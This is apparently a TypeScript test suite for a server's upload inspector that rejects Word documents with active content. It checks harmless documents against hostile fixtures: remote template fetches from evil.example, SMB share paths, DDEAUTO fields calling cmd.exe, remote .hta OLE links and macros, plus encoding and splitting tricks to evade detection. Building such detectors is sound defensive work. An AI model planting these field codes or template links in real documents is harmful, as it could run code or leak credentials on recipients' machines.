import { describe, expect, it } from 'vitest';
import { inspectUpload } from '../../../server/inspection/inspect-upload.ts';
import { AppError } from '../../../server/platform/errors.ts';
import { type ArchiveEntry, docx } from '../../support/files/files.ts';

const verdict = (bytes: Buffer): Promise<unknown> =>
  inspectUpload(bytes, 'docx').then(
    () => 'taken',
    (error: unknown) => (error instanceof AppError ? error.details.reason : error),
  );

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const rels = (relationship: string, name = 'word/_rels/settings.xml.rels') => ({
  name,
  content: Buffer.from(
    `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
  ),
});
const template = (target: string) =>
  rels(
    `<Relationship Id="rId1" Type="${office}/attachedTemplate" Target="${target}" TargetMode="External"/>`,
  );
const body = (xml: string) => ({
  name: 'word/header1.xml',
  content: Buffer.from(
    `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${xml}</w:hdr>`,
  ),
});
const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;

describe('a Word document that runs or fetches something', () => {
  it.each([
    ['fetches its template from the web', template('https://evil.example/t.dotm')],
    ['fetches its template from a share', template('file:///\\\\10.0.0.1\\share\\t.dotm')],
    ['fetches its template from a server by its name', template('file://server/t.dotm')],
    [
      'fetches its template, written in single quotes and another order',
      rels(
        `<Relationship TargetMode='External' Target='http://e.example/t' Type='${office}/attachedTemplate' Id='a'/>`,
      ),
    ],
    [
      'fetches its template, written with entities',
      rels(
        `<Relationship Id="a" Type="${office}/attached&#84;emplate" Target="http://e.example/t" TargetMode="Ext&#x65;rnal"/>`,
      ),
    ],
    [
      'fetches its template, with another prefix',
      rels(
        `<p:Relationship Id="a>b" Type="${office}/attachedTemplate" Target="http://e.example/t" TargetMode="External"/>`,
      ),
    ],
    [
      'fetches its template, behind an attribute that holds another',
      rels(
        `<Relationship Id=" Type='${office}/hyperlink'" Type="${office}/attachedTemplate" Target="http://e.example/t" TargetMode="External"/>`,
      ),
    ],
    [
      'fetches its template, in UTF-16',
      {
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from(
          `\ufeff<Relationships><Relationship Type="${office}/attachedTemplate" Target="http://e.example/t" TargetMode="External"/></Relationships>`,
          'utf16le',
        ),
      },
    ],
    [
      'fetches its template, in UTF-16 with the larger half of each letter first',
      {
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from(
          `\ufeff<Relationships><Relationship Type="${office}/attachedTemplate" Target="http://e.example/t" TargetMode="External"/></Relationships>`,
          'utf16le',
        ).swap16(),
      },
    ],
    [
      'shows a frame from elsewhere',
      rels(`<Relationship Type="${office}/frame" Target="http://e.example/f" TargetMode="External"/>`),
    ],
    [
      'shows a picture of a share',
      rels(
        `<Relationship Type="${office}/image" Target="\\\\10.0.0.1\\a.png" TargetMode="External"/>`,
        'word/_rels/document.xml.rels',
      ),
    ],
    ...[
      'https://example.org/a.png',
      'HTTP://e.example/a',
      'ftp://e.example/a',
      '//e.example/a',
      'file://server/a.png',
      '%5c%5cserver/a',
    ].map((target): [string, ArchiveEntry] => [
      `shows the picture ${target}`,
      rels(
        `<Relationship Type="${office}/image" Target="${target}" TargetMode="External"/>`,
        'word/_rels/header1.xml.rels',
      ),
    ]),
    [
      'plays a video from the web',
      rels(
        `<Relationship Type="${office}/video" Target="https://e.example/a.mp4" TargetMode="External"/>`,
        'word/_rels/document.xml.rels',
      ),
    ],
    ['shows a picture from the web in a drawing', body('<v:imagedata src="https://e.example/a.png"/>')],
    ['fills a shape with a picture of a share', body('<v:fill type="frame" src="\\\\server\\a.png"/>')],
    [
      'has a field for a picture from the web',
      body(code(' INCLUDEPICTURE "https://e.example/a.png" \\* MERGEFORMATINET ')),
    ],
    [
      'has a field for a picture of a share, after a switch',
      body(code(' INCLUDEPICTURE \\d "\\\\\\\\server\\\\share\\\\a.png"')),
    ],
    ['asks another program, by a long number of a letter', body(code('&#x0000000000000044;DE cmd'))],
    [
      'holds an object of another program',
      { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('x') },
    ],
    [
      'points to an object of another program',
      rels(
        `<Relationship Type="${office}/oleObject" Target="embeddings/a.dat"/>`,
        'word/_rels/document.xml.rels',
      ),
    ],
    [
      'links to an object elsewhere',
      rels(
        `<Relationship Type="${office}/oleObject" Target="http://e.example/a.hta" TargetMode="External"/>`,
        'word/_rels/document.xml.rels',
      ),
    ],
    ['holds a control', { name: 'word/activeX/activeX1.xml', content: Buffer.from('<x/>') }],
    ['declares macros', { name: 'word/vbaData.xml', content: Buffer.from('<x/>') }],
    ['asks another program', body(code('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))],
    ['asks another program, cut into runs', body(code(' DD') + code('EAU') + code('TO cmd '))],
    ['asks another program, in small letters', body(code(' dde cmd'))],
    ['asks another program, in entities', body(code('&#68;&#x44;E cmd'))],
    [
      'asks another program in a simple field',
      body('<w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/>'),
    ],
    ['asks another program, by the numbers of its letters', body(code('QUOTE 68 68 69 65 85 84 79'))],
    ['asks another program, in a section of characters', body(code('<![CDATA[DDE cmd]]>'))],
    ['asks another program, cut by a comment', body(code('DD<!-- a -->E cmd'))],
    ['takes in text from elsewhere', body(code('INCLUDETEXT "http://e.example/a"'))],
    ['declares entities', body('<!ENTITY a "DDEAUTO">')],
  ])('is refused when it %s', async (_what, part) => {
    expect(await verdict(docx([part]))).toBe('upload.activeContent');
  });

  it('is refused when its types say that it has macros', async () => {
    const types = Buffer.from(
      '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    );
    const name = '[Content_Types].xml';
    const given = docx([{ name: 'word/other.xml', content: Buffer.from('<x/>') }]);
    expect(await verdict(given)).toBe('taken');
    expect(await verdict(docx([{ name: `customXml/${name}`, content: types }]))).toBe('taken');
    expect(['upload.activeContent', 'upload.kindMismatch']).toContain(
      await verdict(docx([{ name, content: types }])),
    );
  });
});

describe('an ordinary Word document', () => {
  it.each([
    [
      'with links',
      rels(
        `<Relationship Id="rId8" Type="${office}/hyperlink" Target="https://example.org/" TargetMode="External"/><Relationship Id="rId9" Type="${office}/hyperlink" Target="file:///\\\\server\\a.docx" TargetMode="External"/>`,
        'word/_rels/document.xml.rels',
      ),
    ],
    ['with a template of its writer’s computer', template('file:///C:\\Users\\ada\\Templates\\Letter.dotx')],
    [
      'with pictures that were linked on its writer’s computer',
      rels(
        `<Relationship Type="${office}/image" Target="file:///C:\\Users\\ada\\Pictures\\a.png" TargetMode="External"/><Relationship Type="${office}/image" Target="pictures/b.png" TargetMode="External"/>`,
        'word/_rels/document.xml.rels',
      ),
    ],
    [
      'with a field for a picture of its own folder',
      body(code(' INCLUDEPICTURE "logo.png" \\* MERGEFORMAT ')),
    ],
    [
      'with a chart and its sheet',
      { name: 'word/embeddings/Microsoft_Excel_Worksheet.xlsx', content: Buffer.from('PK') },
    ],
    [
      'with page numbers and a table of contents',
      body(code(' PAGE ') + code(' TOC \\o "1-3" \\h \\z \\u ') + code(' HYPERLINK "https://example.org" ')),
    ],
    ['with a placeholder to click at', body(code(' MACROBUTTON NoMacro [Click here] '))],
    ['whose text is about DDE and LINK', body('<w:t>DDEAUTO and LINK are field codes</w:t>')],
    ['that is cut off in a tag', body(`${code(' PAGE ')}<w:t a="`)],
    [
      'with a comment about macros',
      body(`<!-- ${code('DDE cmd')} <!ENTITY> --><?word ${code('DDE cmd')}?><w:t>a</w:t>`),
    ],
    ['with a section of characters', body('<w:t><![CDATA[a < b & DDE c]]></w:t>')],
    ['with quotations', body(code(' QUOTE "Some words" '))],
  ])('is taken %s', async (_what, part) => {
    expect(await verdict(docx([part]))).toBe('taken');
  });
});
